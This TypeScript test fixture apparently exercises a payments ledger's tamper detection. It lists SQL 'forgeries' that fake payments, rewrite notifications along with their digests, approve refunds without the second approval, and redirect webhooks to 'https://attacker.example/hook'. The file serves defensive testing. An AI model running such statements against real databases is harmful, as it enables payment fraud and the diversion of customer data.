/** By table: members that a copied row must change so that it violates no key. */
export const COPIES: Readonly<Record<string, Record<string, unknown>>> = {
  transaction_search: { sequence: 1000 },
  minute_totals: { minute: "2026-01-01T00:00:00Z" },
  unindexed_pending: { sequence: 1000 },
  search_index_progress: { session_id: "ses_copy" },
  payment_confirmations: { transaction_id: "txn_copy" },
  webhook_deliveries: { id: "evt_copy", transaction_id: "txn_copy" },
  webhook_attempts: { number: 100 },
  device_pairings: { id: "par_copy" },
  expected_payments: { id: "exp_copy", sequence: 1000 },
  expected_payment_matches: { sequence: 1000 },
  expected_payment_progress: { session_id: "ses_copy" },
  exceptions: { id: "exc_copy", dedupe_key: "copy" },
  bank_notifications: { id: "ntc_copy" },
  operator_assignments: { id: "asg_copy" },
  payment_identities: { payment_key: "copy" },
  retired_payments: { transaction_id: "txn_copy" },
  refunds: { id: "rfd_copy", request_key: "copy" },
  reversals: { id: "rev_copy", reference: "copy" },
  session_states: { session_id: "ses_copy" },
  session_totals: { operator_id: "op_copy" },
  sessions: { session_id: "ses_copy", account_number: "0000000000", terminal_fragment: "copy" },
  settlement_lines: { payment_key: "copy" },
  settlements: { reference: "copy" },
  settlement_totals: { settled_on: "2030-01-01" },
  terminals: { terminal_id: "pos_copy" },
  transactions: { id: "txn_copy", sequence: 1000, terminal_sequence: 1000 },
};

export interface Forgery {
  what: string;
  statements: string[];
  /** Part of the expected difference. */
  named: string;
}

const TWO_OF_ONE_STATEMENT = `(select session_id, min(sequence) as one, max(sequence) as two from transactions
  group by session_id, created_at having count(*) > 1 limit 1)`;

/** SQL that copies a payment as the next one of its session, with other members. */
const forge = (members: string) => `
  insert into transactions select (jsonb_populate_record(t, jsonb_build_object('id', 'txn_forged',
    'sequence', c.last_sequence + 1, 'created_at', c.last_created_at${members}))).*
  from transactions t join session_states c using (session_id)
  where t.id = (select min(id) from transactions
    where channel = 'bank_transfer' and status = 'successful' and settled_on is null and operator_id is null and mode = 'test')`;

/** Manipulations that change more than one value. */
export const FORGERIES: Forgery[] = [
  {
    what: "a kobo moved between two payments of one minute",
    statements: [
      `update transactions t set amount = amount + case sequence when two then 1 else -1 end from ${TWO_OF_ONE_STATEMENT} m
        where t.session_id = m.session_id and sequence in (one, two)`,
    ],
    named: "amount of txn_",
  },
  {
    what: "a swap of two numbers of one statement",
    statements: [
      `update transactions t set sequence = -(one + two - sequence) from ${TWO_OF_ONE_STATEMENT} m
        where t.session_id = m.session_id and sequence in (one, two)`,
      "update transactions set sequence = -sequence where sequence < 0",
    ],
    named: "search entry of number",
  },
  {
    what: "a swap of two numbers",
    statements: [
      `update transactions t set sequence = -(3 - sequence) from session_states c
        where t.session_id = c.session_id and sequence in (1, 2) and last_sequence > 10`,
      "update transactions set sequence = -sequence where sequence < 0",
    ],
    named: "order of txn_",
  },
  {
    what: "a payment without a notification, in every total and with its event",
    statements: [
      forge(", 'payment_key', 'forged', 'notification_id', 'ntc_forged'"),
      `insert into payment_identities select mode, bank_connection_id, payment_key, session_id, id, false from transactions where id = 'txn_forged'`,
      `update session_states c set last_sequence = last_sequence + 1 from transactions t where t.id = 'txn_forged' and t.session_id = c.session_id`,
      `update session_totals s set count = count + 1, amount = s.amount + t.amount from transactions t
        where t.id = 'txn_forged' and s.session_id = t.session_id and s.channel = t.channel and s.status = t.status and s.operator_id = ''`,
      `insert into webhook_deliveries select (jsonb_populate_record(d, '{"id": "evt_forged", "transaction_id": "txn_forged"}')).*
        from webhook_deliveries d join transactions t on t.id = 'txn_forged' and d.session_id = t.session_id
        where d.state = 'pending' and d.transaction_status = 'successful' limit 1`,
    ],
    named: "notification of txn_forged",
  },
  {
    what: "a payment recorded twice from one notification",
    statements: [forge("")],
    named: "identity of txn_",
  },
  {
    what: "the deletion of an identity, so that the same bytes are recorded again",
    statements: [
      "delete from payment_identities where transaction_id is not null and session_id is not null",
    ],
    named: "identity of txn_",
  },
  {
    what: "a redirected identity",
    statements: [
      `update payment_identities p set transaction_id = o.transaction_id from payment_identities o
        where p.session_id = o.session_id and p.payment_key < o.payment_key`,
    ],
    named: "identity of txn_",
  },
  {
    what: "an event marked as delivered",
    statements: [
      `update webhook_deliveries set state = 'delivered', delivered_at = created_at, attempt_count = 1 where state = 'pending' and attempt_count = 0`,
    ],
    named: "state of event evt_",
  },
  {
    what: "a changed event",
    statements: [
      `update webhook_deliveries set body = replace(body, '"status":"successful"', '"status":"failed"') where state = 'pending'`,
    ],
    named: "body of event evt_",
  },
  {
    what: "a deleted event of a pending payment that is final now",
    statements: [
      `delete from webhook_deliveries d using transactions t where d.transaction_id = t.id and d.transaction_status = 'pending' and t.status <> 'pending'`,
    ],
    named: "pending event of txn_",
  },
  {
    what: "a notification's body changed with its digest",
    statements: [
      `update bank_notifications set body = convert_to(replace(convert_from(body, 'UTF8'), 'Ngozi', 'Nkechi'), 'UTF8') where outcome = 'recorded' and provider = 'monnify'`,
      "update bank_notifications set digest = sha256(body)",
    ],
    named: "sender name of txn_",
  },
  {
    what: "a deleted notification of a payment",
    statements: ["delete from bank_notifications where outcome = 'recorded' and provider = 'moniepoint'"],
    named: "notification of txn_",
  },
  {
    what: "an unknown adapter version",
    statements: ["update bank_notifications set adapter_version = 99 where provider = 'moniepoint'"],
    named: "adapter moniepoint version 99",
  },
  {
    what: "an open exception that is deleted",
    statements: ["delete from exceptions where reason = 'conflicting_repeat' and resolved_at is null"],
    named: "exception of ntc_",
  },
  {
    what: "an open exception that is resolved without its payment",
    statements: [
      `update exceptions set resolved_at = now(), resolution = 'recorded' where reason = 'unknown_destination' and resolved_at is null`,
    ],
    named: "need of a transaction of exc_",
  },
  {
    what: "an exception about a notification that does not exist",
    statements: [
      `insert into exceptions select (jsonb_populate_record(e, '{"id": "exc_forged", "dedupe_key": "forged", "notification_id": "ntc_forged"}')).*
        from exceptions e where reason = 'unknown_destination' limit 1`,
    ],
    named: "notification of exc_forged",
  },
  {
    what: "a session that a member closed, opened again",
    statements: [
      `update session_states c set status = 'active', closed_at = null from audit_entries a
        where a.session_id = c.session_id and a.action = 'closed_event' and a.member_id is not null`,
    ],
    named: "state of the session",
  },
  {
    what: "a session that a platform closed, opened again, with the exceptions of its late payments deleted",
    statements: [
      `delete from exceptions where reason = 'session_closed' and session_id in (select session_id from audit_entries where actor = 'API')`,
      `update session_states c set status = 'active', closed_at = null from audit_entries a
        where a.session_id = c.session_id and a.action = 'closed_event' and a.actor = 'API'`,
    ],
    named: "state of the session",
  },
  {
    what: "a pairing moved past its payments",
    statements: ["update device_pairings set paired_from = '2030-01-01' where device = 'SN-0001'"],
    named: "terminal of txn_",
  },
  {
    what: "a proof of a device without its claim",
    statements: ["delete from device_claims where state = 'proved'"],
    named: "claim of exc_",
  },
  {
    what: "a claim proved without a payment",
    statements: [
      `insert into device_claims select (jsonb_populate_record(c, '{"id": "dcl_forged", "payment_key": "forged"}')).*
        from device_claims c where state = 'proved'`,
    ],
    named: "proof of dcl_forged",
  },
  {
    what: "a proved device given to another organisation",
    statements: [
      "update devices set organisation_id = (select id from organisations where id <> organisation_id limit 1) where method = 'proof'",
    ],
    named: "proof of dcl_",
  },
  {
    what: "a paired device given to another organisation",
    statements: [
      "update devices set organisation_id = (select id from organisations where id <> organisation_id limit 1) where serial = 'SN-0001'",
    ],
    named: "device of pairing par_",
  },
  {
    what: "a proof of a device moved to a session",
    statements: [
      `update exceptions e set session_id = s.session_id from sessions s
        where e.reason = 'device_claim' and s.organisation_id = e.organisation_id`,
    ],
    named: "proof of dcl_",
  },
  {
    what: "another amount of a proved claim",
    statements: ["update device_claims set amount = amount + 1 where state = 'proved'"],
    named: "proof of dcl_",
  },
  {
    what: "an assignment moved past its payments",
    statements: [
      "update operator_assignments set assigned_from = '2030-01-01' where operator_id in (select operator_id from transactions where terminal_id is not null)",
    ],
    named: "operator of txn_",
  },
  {
    what: "an account number given to another session",
    statements: [
      `update sessions set account_number = '0000000001', account_generation = 0 where session_id = (select session_id from transactions where mode = 'live' limit 1)`,
    ],
    named: "account of txn_",
  },
  {
    what: "events sent to another URL",
    statements: [
      `update sessions set webhook_url = 'https://attacker.example/hook' where webhook_url is not null and mode = 'test'`,
      `update webhook_endpoints set url = 'https://attacker.example/hook' where mode = 'test'`,
    ],
    named: "webhook of the session",
  },
  {
    what: "payments that are settled without a settlement line, in their total",
    statements: [
      `update transactions set settled_on = '2026-11-21' where status = 'successful' and settled_on is null and channel = 'pos'`,
      `update settlement_totals s set count = t.count, amount = t.amount from (select session_id, count(*), sum(amount) as amount
        from transactions where settled_on is not null group by 1) t where t.session_id = s.session_id`,
    ],
    named: "settlement of txn_",
  },
  {
    what: "a settlement line that no settlement lists",
    statements: [
      `insert into settlement_lines select (jsonb_populate_record(l, '{"payment_key": "PAY-001", "id": "sln_forged"}')).*
        from settlement_lines l where state = 'applied' limit 1`,
    ],
    named: "settlement line of PAY-001",
  },
  {
    what: "a refund that is sent without the second person's approval",
    statements: ["update refunds set state = 'approved', due_at = now() where state = 'awaiting_approval'"],
    named: "refund rfd_",
  },
];
